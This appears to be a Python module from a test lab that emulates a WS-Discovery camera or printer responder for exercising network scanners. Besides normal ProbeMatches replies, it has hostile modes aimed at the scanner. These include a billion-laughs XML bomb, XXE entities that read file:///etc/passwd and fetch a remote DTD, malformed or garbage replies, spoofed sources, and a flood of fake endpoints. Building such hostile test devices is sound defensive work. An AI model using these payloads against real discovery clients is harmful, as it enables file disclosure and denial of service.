"""``kind = "wsd"``: a WS-Discovery 2005/04 target service on UDP 3702.

Joins 239.255.255.250 on eth0 and answers a well-formed Probe (SOAP 1.2,
Action .../2005/04/discovery/Probe, a MessageID) whose Types and Scopes match
what the device advertises, or an untyped Probe, with a ProbeMatches sent
unicast to the probe's source address and port, RelatesTo = the probe's
MessageID: what ONVIF cameras (gSOAP-based firmwares) and WSD printers do.
Anything else gets no answer, as on a real device.

Options (all optional):
  uuid      endpoint reference UUID (default: derived from the device name)
  types     advertised Types, space-separated QNames with the prefixes dn, tds,
            wsdp, pub, wprt, wscn (default "dn:NetworkVideoTransmitter tds:Device")
  scopes    list of scope URIs
  xaddrs    list of XAddrs; "{ip}" becomes the device's own address
            (default ["http://{ip}/onvif/device_service"])
  metadata_version  int (default 1)
  mode      "normal" | "unsolicited" (also sends a second ProbeMatches whose
            RelatesTo is a random id, naming a different endpoint) |
            "malformed" (the ProbeMatches cut short mid-element) |
            "xml-bomb" (a billion-laughs DTD around a ProbeMatches naming the probe) |
            "xxe" (external entities: a file:// entity in the Scopes and an
            external parameter entity fetching a DTD from ``{ip}``) |
            "garbage" (binary junk that quotes the probe's MessageID) |
            "flood" (``flood_count`` ProbeMatches datagrams per probe, each a
            distinct endpoint with its own uuid and mac/ scope)
  flood_count  distinct fake endpoints per probe in "flood" mode (default 10000)
  spoof_from   answer from this forged source address (see base.DatagramResponder)
"""

from __future__ import annotations

import asyncio
import re
import socket
import uuid
from collections.abc import Mapping
from typing import Any, ClassVar
from xml.etree.ElementTree import ParseError as XMLParseError
from xml.sax.saxutils import escape

from defusedxml import DefusedXmlException
from defusedxml.ElementTree import fromstring as safe_fromstring

from lab.responders.base import (
    DatagramResponder,
    OptionError,
    OptionType,
    child,
    join_group,
    log,
    register,
)
from lab.scenario import ServiceSpec

WSD_GROUP = "239.255.255.250"
NS_SOAP12 = "http://www.w3.org/2003/05/soap-envelope"
NS_WSA = "http://schemas.xmlsoap.org/ws/2004/08/addressing"
NS_WSD = "http://schemas.xmlsoap.org/ws/2005/04/discovery"
ACTION_PROBE = NS_WSD + "/Probe"
ACTION_MATCHES = NS_WSD + "/ProbeMatches"
ANONYMOUS = NS_WSA + "/role/anonymous"
MODES = ("normal", "unsolicited", "malformed", "xml-bomb", "xxe", "garbage", "flood")
FLOOD_DEFAULT = 10_000
FLOOD_MAX = 50_000
FLOOD_BATCH = 250  # datagrams sent between yields, so the other devices still answer

# The prefixes a device's Types may use, and what they stand for.
PREFIXES = {
    "dn": "http://www.onvif.org/ver10/network/wsdl",
    "tds": "http://www.onvif.org/ver10/device/wsdl",
    "wsdp": "http://schemas.xmlsoap.org/ws/2006/02/devprof",
    "pub": "http://schemas.microsoft.com/windows/pub/2005/07",
    "wprt": "http://schemas.microsoft.com/windows/2006/08/wdp/print",
    "wscn": "http://schemas.microsoft.com/windows/2006/08/wdp/scan",
}
_XMLNS = re.compile(rb"""xmlns:([A-Za-z_][A-Za-z0-9_.-]*)\s*=\s*["']([^"'<>]*)["']""")
_QNAME = re.compile(r"^([A-Za-z_][A-Za-z0-9_.-]*):([A-Za-z_][A-Za-z0-9_.-]*)$")


def own_ip(probe: socket.socket, peer: str) -> str:
    """This device's address towards ``peer``; a UDP connect() sends nothing.

    ``probe`` was created inside the device namespace, so its routes are the
    device's, and the answer follows ``set_device_ip``.
    """
    try:
        probe.connect((peer, 9))
        return str(probe.getsockname()[0])
    except OSError:
        return "0.0.0.0"


def resolve(qname: str, nsmap: Mapping[str, str]) -> tuple[str, str] | None:
    m = _QNAME.match(qname)
    if not m or m.group(1) not in nsmap:
        return None
    return nsmap[m.group(1)], m.group(2)


def scope_matches(wanted: str, have: str) -> bool:
    """RFC 3986 prefix match, WS-Discovery's default MatchBy (segment-wise, case-exact path)."""
    w, h = wanted.rstrip("/"), have.rstrip("/")
    return h == w or h.startswith(w + "/")


@register
class WsdResponder(DatagramResponder):
    kind = "wsd"
    options: ClassVar[Mapping[str, OptionType]] = {
        "uuid": str,
        "types": str,
        "scopes": list,
        "xaddrs": list,
        "metadata_version": int,
        "mode": str,
        "flood_count": int,
    }

    @classmethod
    def check(cls, options: Mapping[str, Any]) -> None:
        super().check(options)
        if "uuid" in options:
            try:
                uuid.UUID(options["uuid"])
            except ValueError:
                raise OptionError("uuid", f"{options['uuid']!r} is not a UUID") from None
        for qname in str(options.get("types", "")).split():
            m = _QNAME.match(qname)
            if not m or m.group(1) not in PREFIXES:
                raise OptionError(
                    "types", f"{qname!r}: want prefix:Name with a prefix in {sorted(PREFIXES)}"
                )
        for key in ("scopes", "xaddrs"):
            for i, item in enumerate(options.get(key, [])):
                if not isinstance(item, str) or not item or any(c.isspace() for c in item):
                    raise OptionError(f"{key}[{i}]", "must be a non-empty string without spaces")
        if options.get("mode", "normal") not in MODES:
            raise OptionError("mode", f"must be one of {', '.join(MODES)}")
        count = options.get("flood_count", FLOOD_DEFAULT)
        if not 1 <= count <= FLOOD_MAX:
            raise OptionError("flood_count", f"{count} is not within 1..{FLOOD_MAX}")

    def __init__(self, device: str, service: ServiceSpec) -> None:
        super().__init__(device, service)
        o = self.opts
        self.uuid = o.get("uuid") or str(uuid.uuid5(uuid.NAMESPACE_DNS, f"{device}.wsd.lab"))
        self.types = str(o.get("types", "dn:NetworkVideoTransmitter tds:Device")).split()
        self.advertised = {resolve(t, PREFIXES) for t in self.types}
        self.scopes: list[str] = list(o.get("scopes", []))
        self.xaddrs: list[str] = list(o.get("xaddrs", ["http://{ip}/onvif/device_service"]))
        self.metadata_version = int(o.get("metadata_version", 1))
        self.mode = o.get("mode", "normal")
        self.message_number = 0
        self.instance_id = 1_700_000_000
        self._probe: socket.socket | None = None
        self._tasks: set[asyncio.Task[None]] = set()

    def bind(self) -> None:
        super().bind()
        join_group(self.sockets[0], WSD_GROUP)
        self._probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)

    async def stop(self) -> None:
        for task in list(self._tasks):
            task.cancel()
        if self._probe is not None:
            self._probe.close()
        await super().stop()

    # --- probe handling -----------------------------------------------------------

    def probe_id(self, data: bytes) -> str | None:
        """The MessageID of a well-formed Probe this device matches, else None."""
        try:
            root = safe_fromstring(data, forbid_dtd=True)
        except (DefusedXmlException, XMLParseError, ValueError, LookupError):
            return None
        if root.tag != f"{{{NS_SOAP12}}}Envelope":
            return None
        header = child(root, "Header")
        action = child(header, "Action")
        message_id = child(header, "MessageID")
        probe = child(child(root, "Body"), "Probe")
        if action is None or (action.text or "").strip() != ACTION_PROBE or probe is None:
            return None
        if probe.tag != f"{{{NS_WSD}}}Probe":
            return None
        mid = (message_id.text or "").strip() if message_id is not None else ""
        if not mid or len(mid) > 256:
            return None
        nsmap = {m.group(1).decode(): m.group(2).decode() for m in _XMLNS.finditer(data)}
        types_el = child(probe, "Types")
        for qname in ((types_el.text or "") if types_el is not None else "").split():
            wanted = resolve(qname, nsmap)
            if wanted is None or wanted not in self.advertised:
                return None  # an unresolvable or unmatched type: not for us
        scopes_el = child(probe, "Scopes")
        for scope in ((scopes_el.text or "") if scopes_el is not None else "").split():
            if not any(scope_matches(scope, have) for have in self.scopes):
                return None
        return mid

    def matches(
        self,
        relates_to: str,
        ip: str,
        endpoint: str | None = None,
        extra_scopes: tuple[str, ...] = (),
    ) -> bytes:
        self.message_number += 1
        ns = " ".join(f'xmlns:{p}="{u}"' for p, u in PREFIXES.items())
        xaddrs = " ".join(x.replace("{ip}", ip) for x in self.xaddrs)
        scopes = " ".join([*self.scopes, *extra_scopes])
        return (
            '<?xml version="1.0" encoding="UTF-8"?>\n'
            f'<SOAP-ENV:Envelope xmlns:SOAP-ENV="{NS_SOAP12}" xmlns:wsa="{NS_WSA}" '
            f'xmlns:d="{NS_WSD}" {ns}>'
            "<SOAP-ENV:Header>"
            f"<wsa:MessageID>urn:uuid:{uuid.uuid4()}</wsa:MessageID>"
            f"<wsa:RelatesTo>{escape(relates_to)}</wsa:RelatesTo>"
            f'<wsa:To SOAP-ENV:mustUnderstand="true">{ANONYMOUS}</wsa:To>'
            f'<wsa:Action SOAP-ENV:mustUnderstand="true">{ACTION_MATCHES}</wsa:Action>'
            f'<d:AppSequence SOAP-ENV:mustUnderstand="true" MessageNumber="{self.message_number}"'
            f' InstanceId="{self.instance_id}"/>'
            "</SOAP-ENV:Header>"
            "<SOAP-ENV:Body><d:ProbeMatches><d:ProbeMatch>"
            "<wsa:EndpointReference>"
            f"<wsa:Address>urn:uuid:{endpoint or self.uuid}</wsa:Address>"
            "</wsa:EndpointReference>"
            f"<d:Types>{escape(' '.join(self.types))}</d:Types>"
            f"<d:Scopes>{escape(scopes)}</d:Scopes>"
            f"<d:XAddrs>{escape(xaddrs)}</d:XAddrs>"
            f"<d:MetadataVersion>{self.metadata_version}</d:MetadataVersion>"
            "</d:ProbeMatch></d:ProbeMatches></SOAP-ENV:Body>"
            "</SOAP-ENV:Envelope>\n"
        ).encode()

    def reply(self, data: bytes, addr: tuple[str, int]) -> bytes | None:
        mid = self.probe_id(data)
        if mid is None:
            return None
        if self.spoof_from is not None:
            ip = self.spoof_from
        else:
            ip = own_ip(self._probe, addr[0]) if self._probe is not None else "0.0.0.0"
        if self.mode == "flood":
            task = asyncio.get_running_loop().create_task(self._flood(mid, ip, addr))
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)
            return None
        answer = self.matches(mid, ip)
        if self.mode == "unsolicited":
            # a second device's match "relating" to a probe nobody sent
            stray = self.matches(f"urn:uuid:{uuid.uuid4()}", ip, endpoint=str(uuid.uuid4()))
            self.send(stray, addr)
        elif self.mode == "malformed":
            answer = answer[: len(answer) * 2 // 3]
        elif self.mode == "xml-bomb":
            answer = bomb(answer)
        elif self.mode == "xxe":
            answer = external_entities(answer, ip)
        elif self.mode == "garbage":
            answer = b"\x00\xff\xfe<?xml \x01" + mid.encode() + b"\x80\x81" + bytes(range(32))
        log.debug("%r: ProbeMatches to %s:%d for %s", self, addr[0], addr[1], mid)
        return answer

    async def _flood(self, mid: str, ip: str, addr: tuple[str, int]) -> None:
        """``flood_count`` distinct fake endpoints, answered in batches."""
        count = int(self.opts.get("flood_count", FLOOD_DEFAULT))
        base = uuid.UUID(self.uuid).int
        for i in range(1, count + 1):
            endpoint = str(uuid.UUID(int=(base + i) % (1 << 128)))
            mac = f"0e:f1:00:{(i >> 16) & 0xFF:02x}:{(i >> 8) & 0xFF:02x}:{i & 0xFF:02x}"
            scopes = (f"onvif://www.onvif.org/MAC/{mac}", f"onvif://www.onvif.org/name/Flood{i}")
            self.send(self.matches(mid, ip, endpoint=endpoint, extra_scopes=scopes), addr)
            if i % FLOOD_BATCH == 0:
                await asyncio.sleep(0)
        log.debug("%r: flooded %s:%d with %d ProbeMatches", self, addr[0], addr[1], count)


def bomb(document: bytes) -> bytes:
    """The same document behind a billion-laughs DTD, with the Scopes built from it."""
    ents = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    ]
    head, _, rest = document.partition(b"\n")
    root = rest.split(b":", 1)[0].lstrip(b"<")
    dtd = f"<!DOCTYPE {root.decode()}:Envelope [{''.join(ents)}]>\n".encode()
    return head + b"\n" + dtd + rest.replace(b"<d:Scopes>", b"<d:Scopes>&lol9;", 1)


def external_entities(document: bytes, ip: str) -> bytes:
    """The document behind a DTD naming external entities (XXE), used in the Scopes.

    A parser that resolves them reads a local file into the reply and fetches
    a DTD from ``ip`` (an address the scanner must never contact unasked).
    """
    head, _, rest = document.partition(b"\n")
    root = rest.split(b":", 1)[0].lstrip(b"<")
    dtd = (
        f"<!DOCTYPE {root.decode()}:Envelope ["
        '<!ENTITY xxe SYSTEM "file:///etc/passwd">'
        f'<!ENTITY % remote SYSTEM "http://{ip}/xxe.dtd"> %remote;]>\n'
    ).encode()
    return head + b"\n" + dtd + rest.replace(b"<d:Scopes>", b"<d:Scopes>&xxe; ", 1)
